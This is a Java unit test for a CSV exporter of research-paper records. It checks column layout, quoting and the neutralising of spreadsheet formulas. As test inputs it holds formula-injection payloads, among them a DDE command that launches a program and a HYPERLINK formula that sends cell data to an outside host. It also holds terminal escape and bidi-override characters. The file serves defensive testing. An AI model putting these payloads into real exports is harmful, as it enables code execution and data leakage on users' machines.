package dev.digest.export;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import dev.digest.curation.CurationField;
import dev.digest.library.LibraryPaper;
import dev.digest.library.Status;
import dev.digest.paper.Paper.PaperNotes;
import dev.digest.testing.PaperSamples;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvFormatTest {
    private static final CsvFormat FORMAT = new CsvFormat(false);

    private static NamedCsvRecord row(LibraryPaper paper) {
        CsvReader<NamedCsvRecord> rows = CsvReader.builder().ofNamedCsvRecord(FORMAT.header() + FORMAT.paper(paper));
        List<NamedCsvRecord> all = rows.stream().toList();
        assertThat(all).hasSize(1);
        return all.get(0);
    }

    private static LibraryPaper titled(String title) {
        return PaperSamples.uncurated(PaperSamples.arxiv("2210.11610", title).build());
    }

    @Test
    void the_columns_that_programs_count_on_come_first_and_in_this_order() {
        assertThat(FORMAT.header())
                .startsWith("id,status,category,issue,title,titleZh,authors,institutions,summary,recommendation,"
                        + "publishedAt,version,categories,journalRef,comment,doi,url,downloadUrl,detailUrl,codeUrl,"
                        + "abstract,addedAt,")
                .endsWith("\r\n");
    }

    @ParameterizedTest
    @EnumSource(CurationField.class)
    void each_field_of_editors_has_its_column(CurationField field) {
        String text = switch (field.kind()) {
            case ADDRESS -> "https://example.org/x";
            case IMAGE -> "images/x.png";
            default -> "某文";
        };
        LibraryPaper paper =
                PaperSamples.curated(PaperSamples.arxiv("2210.11610", "T").build(), Map.of(field, text));
        assertThat(row(paper).getField(field.jsonName())).isEqualTo(text);
        assertThat(Arrays.stream(FORMAT.header().strip().split(",", -1)))
                .doesNotHaveDuplicates()
                .contains(field.jsonName());
    }

    @Test
    void what_the_source_said_stands_in_its_columns() {
        NamedCsvRecord row = row(PaperSamples.hostile());
        assertThat(row.getField("id")).isEqualTo("arXiv:hep-th/9901001");
        assertThat(row.getField("status")).isEqualTo("candidate");
        assertThat(row.getField("authors")).isEqualTo("Ada van der Example; Ben, and Cai; The Toys Collaboration");
        assertThat(row.getField("publishedAt")).isEqualTo("1999-01-04T10:00:00Z");
        assertThat(row.getField("version")).isEqualTo("2");
        assertThat(row.getField("journalRef")).isEqualTo("J. Toys 7 (1999) 1");
        assertThat(row.getField("abstract")).isEqualTo("First, \"quoted\".\n\n-2+3");
        assertThat(row.getField("addedAt")).isEqualTo("2022-10-31T08:00:00Z");
    }

    @Test
    void the_issue_of_a_paper_is_its_number() {
        LibraryPaper plain = titled("T");
        assertThat(row(plain).getField("issue")).isEmpty();
        LibraryPaper held = new LibraryPaper(
                plain.paper(), plain.curation(), Status.PUBLISHED, OptionalInt.of(64), plain.addedAt());
        assertThat(row(held).getField("issue")).isEqualTo("64");
        assertThat(row(held).getField("status")).isEqualTo("published");
    }

    @Test
    void what_is_unknown_is_an_empty_cell() {
        NamedCsvRecord row = row(titled("T"));
        for (String column : List.of("version", "publishedAt", "comment", "doi", "categories", "abstract", "summary")) {
            assertThat(row.getField(column)).as(column).isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                " =1+1",
                "\u3000=1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(A1)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"https://example.org/?\"&A1)"
            })
    void nothing_is_a_formula_of_a_spreadsheet(String text) {
        LibraryPaper paper = PaperSamples.curated(
                PaperSamples.arxiv("2210.11610", text)
                        .authors(PaperSamples.authors(text))
                        .build(),
                Map.of(CurationField.TITLE_ZH, text, CurationField.SUMMARY, text, CurationField.INSTITUTIONS, text));
        assertThat(row(paper).getFields())
                .allSatisfy(cell -> assertThat(cell).doesNotContainPattern("^[\\s\\p{Z}]*[=+@\\-＝＋－＠]"));
        assertThat(row(paper).getField("titleZh")).isEqualTo("'" + text.strip());
    }

    @Test
    void a_text_that_begins_like_a_formula_reads_as_it_was_written_behind_an_apostrophe() {
        assertThat(row(PaperSamples.hostile()).getField("title")).isEqualTo("'" + PaperSamples.HOSTILE_TITLE);
        assertThat(row(PaperSamples.hostile()).getField("summary")).isEqualTo("'=1+1，“玩具”\n\n第二段 {");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a;b", "a,b", "a|b", "a\"b", "a\nb", "甲；乙，丙", "'", "\"\"", "a;=1+1"})
    void a_cell_stays_one_cell_whatever_separates_cells_elsewhere(String text) {
        LibraryPaper paper = PaperSamples.curated(
                PaperSamples.arxiv("2210.11610", "T").build(), Map.of(CurationField.SUMMARY, text));
        assertThat(row(paper).getField("summary")).isEqualTo(text);
        if (text.matches("(?s).*[;|].*")) {
            assertThat(FORMAT.paper(paper)).contains("\"" + text + "\"");
        }
    }

    @Test
    void no_control_character_reaches_a_spreadsheet() {
        LibraryPaper paper = PaperSamples.uncurated(PaperSamples.arxiv("2210.11610", "T")
                .notes(new PaperNotes(
                        Optional.of("a\u001B[31m\u009B\u202Eb\rc\tx"), Optional.empty(), Optional.empty()))
                .build());
        assertThat(FORMAT.paper(paper).replace("\r\n", "\n")).doesNotContainPattern("[\\p{Cc}\\x{202E}&&[^\n\t]]");
        assertThat(row(paper).getField("comment")).startsWith("a[31mb");
    }

    @Test
    void spreadsheets_get_a_byte_order_mark_and_programs_do_not() {
        assertThat(new CsvFormat(true).header()).isEqualTo("\uFEFF" + FORMAT.header());
        assertThat(FORMAT.header()).startsWith("id,");
    }
}
